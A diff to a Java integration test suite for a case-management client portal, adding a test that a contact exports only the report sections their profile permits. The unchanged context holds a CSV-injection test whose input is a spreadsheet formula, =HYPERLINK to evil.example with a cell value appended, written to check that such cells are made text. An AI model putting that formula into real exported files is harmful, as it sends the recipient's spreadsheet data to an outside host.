@@ -110,6 +110,23 @@ class CaseExportTest extends IntegrationTest {
     }
 
     @Test
+    void aContactExportsOnlyTheSectionsTheirProfileShows() throws Exception {
+        long profile = data.portalProfile("Expenses only", EnumSet.of(PortalSection.EXPENSES, PortalSection.REPORTS),
+                Set.of());
+        jdbc.sql("update portal_profiles set actions = :actions where id = :id")
+                .param("actions", new String[] {PortalAction.GENERATE_REPORT.name()}).param("id", profile).update();
+        Actor contact = data.contact(clientId);
+        data.grantAllCases(contact);
+        data.useProfile(contact, profile);
+
+        assertThat(Downloads.perform(mvc, get("/portal/cases/" + caseId + "/reports/export/time.csv")
+                .with(data.signedIn(contact))).getResponse().getStatus()).isEqualTo(404);
+        export(contact, "/portal/cases/" + caseId + "/reports/export/expenses.csv");
+        assertThat(mvc.perform(get("/portal/cases/" + caseId + "/reports").with(data.signedIn(contact))).andReturn()
+                .getResponse().getContentAsString()).contains("export-expenses").doesNotContain("export-time");
+    }
+
+    @Test
     void cellsASpreadsheetWouldRunAsFormulasAreMadeText() throws Exception {
         data.note(lead, caseId, "=HYPERLINK(\"https://evil.example/?\"&A2,\"Open\")", "1", "1", Visibility.CLIENT);
         data.expense(lead, caseId, "@SUM(A1:A9)", "1.00", Visibility.CLIENT);
